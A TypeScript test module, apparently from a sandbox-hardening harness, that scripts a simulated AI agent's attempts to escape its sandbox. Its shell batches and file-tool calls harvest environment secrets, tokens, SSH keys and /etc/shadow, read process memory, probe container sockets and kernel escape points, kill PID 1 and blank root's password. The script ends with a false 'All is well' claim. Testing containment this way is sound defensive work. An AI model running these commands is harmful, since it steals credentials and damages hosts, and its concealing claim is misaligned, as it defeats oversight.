import { type Attack, claim, shell, type Target } from "../attack.ts";

/** Prints whatever it can get hold of: its environment, `/proc`, the host's files, sockets and devices. */
export const readSecrets: Attack = {
  name: "read-secrets",
  turns: (target) => [
    shell("Who am I?", ENVIRONMENT, PROCESSES, GUEST, OTHERS),
    shell("What is around me?", hostFiles(target), SOCKETS, DEVICES, KERNEL),
    shell("By a way around.", links(target), NODE_READER, STRINGS),
    {
      text: "The file tools may run elsewhere.",
      calls: paths(target).map((path) => ({ tool: "read_file", input: { path } })),
    },
    {
      text: "Through links that I planted in the workspace.",
      calls: LINKS.map((path) => ({ tool: "read_file", input: { path } })),
    },
    {
      text: "And out again by the file tools.",
      calls: [
        { tool: "write_file", input: { path: "../../escape.txt", content: "escaped" } },
        { tool: "write_file", input: { path: target.trap, content: "escaped" } },
        { tool: "write_file", input: { path: "links/home/planted", content: "escaped" } },
        { tool: "write_file", input: { path: "/proc/1/mem", content: "escaped" } },
        {
          tool: "edit_file",
          input: {
            path: "links/root/etc/passwd",
            edits: [{ old_string: "root:x:0:0", new_string: "root::0:0" }],
          },
        },
      ],
    },
    claim("All is well."),
  ],
  tookPlace: ["ENVIRONMENT-READ", "PROCESSES-READ", "GUEST-READ", "KERNEL-READ", "NODE-READ"],
};

const ENVIRONMENT = String.raw`
env; export -p; set | head -100; printenv | base64 -w0; echo
env | xxd -p 2>/dev/null | tr -d '\n'; env | rev
node -e 'console.log(Buffer.from(JSON.stringify(process.env)).toString("hex"))'
node -p 'JSON.stringify([process.execPath, process.argv, process.execArgv, process.report.getReport().environmentVariables])'
cat /proc/self/environ /proc/$$/environ /proc/$PPID/environ | tr '\0' '\n'
cat ~/.* /root/.* /etc/environment /etc/profile.d/* /run/secrets/* /var/run/secrets/*/*/* 2>&1 | head -50
git config --list --show-origin --show-scope; git credential fill <<< $'protocol=https\nhost=github.com\n' < /dev/null
npm config ls -l 2>/dev/null | grep -i -E 'auth|token|proxy|registry'
echo ENVIRONMENT-READ`;

const PROCESSES = String.raw`
for p in /proc/[0-9]*; do
  echo "== $p"; tr '\0' ' ' < $p/cmdline; tr '\0' '\n' < $p/environ
  readlink $p/exe $p/cwd $p/root; ls -l $p/fd; cat $p/maps | head -5; cat $p/mountinfo | head -60
done 2>&1 | head -c 20000
ps auxwwwe 2>&1 | head -50
echo PROCESSES-READ`;

const GUEST = String.raw`
ls -lan /proc/1/fd /proc/1/root/ /proc/1/cwd/ /proc/1/task/*/environ 2>&1
cat /proc/1/environ /proc/1/mem /proc/1/maps /proc/1/stack /proc/1/auxv /proc/1/syscall 2>&1 | head -c 2000
for fd in 0 1 2 3 4 5; do echo 'forged frame' > /proc/1/fd/$fd; head -c 64 /proc/1/fd/$fd; done 2>&1
kill -STOP 1; kill -9 1; kill -USR1 1; kill -9 -- -1 $PPID 2>&1 || true
node --inspect-brk=127.0.0.1:9229 -e 0 & sleep 0.2; curl -s -m1 127.0.0.1:9229/json; kill %1
ls -laR /opt/dunlin 2>&1 | head -40; echo x >> /opt/dunlin/x; cp /bin/sh /opt/dunlin/bin/node
gdb -p 1 -batch 2>&1 | head -3; strace -p 1 2>&1 | head -3
grep -a -o -E 'sk-[A-Za-z0-9-]{10,}|gh[ps]_[A-Za-z0-9_]{10,}' -r /opt /etc /tmp /var /home /root /run 2>/dev/null | head
echo GUEST-READ`;

const OTHERS = String.raw`
sudo -n id; su -c id; doas id; pkexec id; unshare -Urm id; nsenter -t 1 -a id; chroot / id; mount -t proc none /mnt
find / -xdev -perm -4000 -type f 2>/dev/null | head; getcap -r / 2>/dev/null | head
cat /proc/self/status /proc/self/loginuid /proc/self/uid_map; capsh --print; id
echo OTHERS-READ`;

function hostFiles(target: Target): string {
  const files = [
    target.keyFile,
    `${target.home}/.netrc`,
    `${target.home}/.ssh/id_ed25519`,
    `${target.dataFolder}`,
    `/proc/${target.dunlinPid}/environ`,
    `/proc/${target.dunlinPid}/root${target.home}/.netrc`,
    "/var/lib/docker",
    "/run/containerd",
    "/etc/shadow",
    "/root/.ssh",
    "/host",
    "/mnt",
    "/media",
    "/sys/fs/cgroup/release_agent",
  ];
  const walked = files.map((file) => `cat ${file}; ls -laR ${file} | head -20`).join("\n");
  return `${walked}
find / -xdev \\( -name '*.pem' -o -name '.netrc' -o -name 'id_*' -o -name '*.journal*' \\) 2>/dev/null | head -20
cat /proc/mounts; df -a; cat /etc/hostname /etc/hosts /etc/resolv.conf
for fd in $(seq 0 255); do readlink /proc/self/fd/$fd && head -c 200 <&$fd; done 2>/dev/null
ls -la /proc/self/fd/9/ /proc/self/fd/7/../../../../ 2>&1 | head`;
}

const SOCKETS = String.raw`
find / -xdev -type s 2>/dev/null | head; cat /proc/net/unix | head -40
for s in /var/run/docker.sock /run/docker.sock /run/dunlin/docker.sock /run/containerd/containerd.sock /run/podman/podman.sock; do
  curl -s -m2 --unix-socket $s http://d/containers/json; done
docker ps; echo "DOCKER_HOST=$DOCKER_HOST"
node -e 'for (const name of ["containerd-shim","/containerd-shim/x.sock","dunlin","guest"]) { require("net").connect("\0" + name).on("error", (e) => console.log(name, e.code)).on("connect", () => console.log("REACHED", name)) }'`;

const DEVICES = String.raw`
ls -la /dev /dev/pts; head -c 64 /dev/mem /dev/kmem /dev/port /dev/kmsg /dev/sda /dev/vda /dev/console 2>&1
echo 'forged frame' > /dev/console; echo 'forged frame' > /dev/tty; dmesg | tail -3
mknod /tmp/disk b 8 0; mknod /tmp/kmem c 1 2; head -c 10 /tmp/disk`;

const KERNEL = String.raw`
echo '|/tmp/x' > /proc/sys/kernel/core_pattern; echo c > /proc/sysrq-trigger; echo 1 > /proc/sys/kernel/sysrq
echo /tmp/x > /sys/fs/cgroup/release_agent; mkdir /sys/fs/cgroup/x; cat /proc/kcore 2>&1 | head -c 64
cat /proc/kallsyms | head -3; cat /proc/keys /proc/cmdline /proc/1/cgroup; ls /sys/kernel/debug /sys/firmware
exec 2>&1; echo KERNEL-READ`;

function links(target: Target): string {
  return `mkdir -p links && cd links
ln -sfn ${target.home} home; ln -sfn / root; ln -sfn /proc/self/environ environ; ln -sfn /proc/1 guest
ln -sfn ${target.keyFile} key; ln -sfn ${target.dataFolder} data; ln -sfn ../../../../../.. up
ln /etc/passwd hard 2>&1; ln -sfn loop loop
ln -sfn ${target.dataFolder}/mirrors mirrors; mkfifo pipe; ln -sfn /dev/zero zero; ln -sfn /dev/stdin stdin
ls -la; cat home/.netrc key environ data/* 2>&1 | head -50`;
}

const LINKS = [
  "links/home/.netrc",
  "links/key",
  "links/environ",
  "links/guest/environ",
  "links/root/etc/shadow",
  "links/data",
  "links/loop",
  "links/pipe",
  "links/zero",
  "links/stdin",
  "links/up/etc/shadow",
];

function paths(target: Target): string[] {
  return [
    "/proc/self/environ",
    "../../../../../../proc/self/environ",
    "/proc/1/environ",
    "/proc/1/mem",
    `/proc/${target.dunlinPid}/environ`,
    target.keyFile,
    `file://${target.keyFile}`,
    `${target.home}/.netrc`,
    `..${target.home}/.netrc`,
    "~/.netrc",
    "$HOME/.netrc",
    "$(cat /proc/self/environ)",
    "/opt/dunlin/guest/main.js",
    "sum.js\u0000/../../../etc/passwd",
    "/dev/zero",
    ".git/config",
  ];
}

const NODE_READER = String.raw`cat > /tmp/reader.mjs <<'END'
import { readdirSync, readFileSync, readlinkSync, openSync, readSync } from "node:fs";
const tell = (what, give) => { try { console.log(what, String(give()).slice(0, 400)); } catch (error) { console.log(what, error.code); } };
for (const pid of readdirSync("/proc").filter((name) => /^\d+$/.test(name))) {
  for (const name of ["environ", "cmdline", "comm", "wchan"]) tell(pid + " " + name, () => readFileSync("/proc/" + pid + "/" + name));
  tell(pid + " root", () => readdirSync("/proc/" + pid + "/root/"));
  tell(pid + " fds", () => readdirSync("/proc/" + pid + "/fd").map((fd) => readlinkSync("/proc/" + pid + "/fd/" + fd)));
  tell(pid + " memory", () => {
    const map = readFileSync("/proc/" + pid + "/maps", "utf8").split("\n").find((line) => line.includes("[heap]"));
    const start = parseInt(map.split("-")[0], 16);
    const bytes = Buffer.alloc(65536);
    readSync(openSync("/proc/" + pid + "/mem", "r"), bytes, 0, bytes.length, start);
    return bytes.toString("latin1").match(/[A-Z_]+=[ -~]{8,}/g);
  });
}
console.log("NODE-READ");
END
node /tmp/reader.mjs 2>&1 | tail -c 12000`;

const STRINGS = String.raw`
python3 -c 'import os; print(os.environ); print(open("/proc/1/environ","rb").read())' 2>&1 | tail -3
perl -e 'print join("\n", %ENV), "\n"; open(F, "/proc/1/environ"); print <F>' 2>&1 | tail -3
cat /proc/self/mountinfo | grep -o 'upperdir=[^,]*'; cat /proc/self/cgroup`;
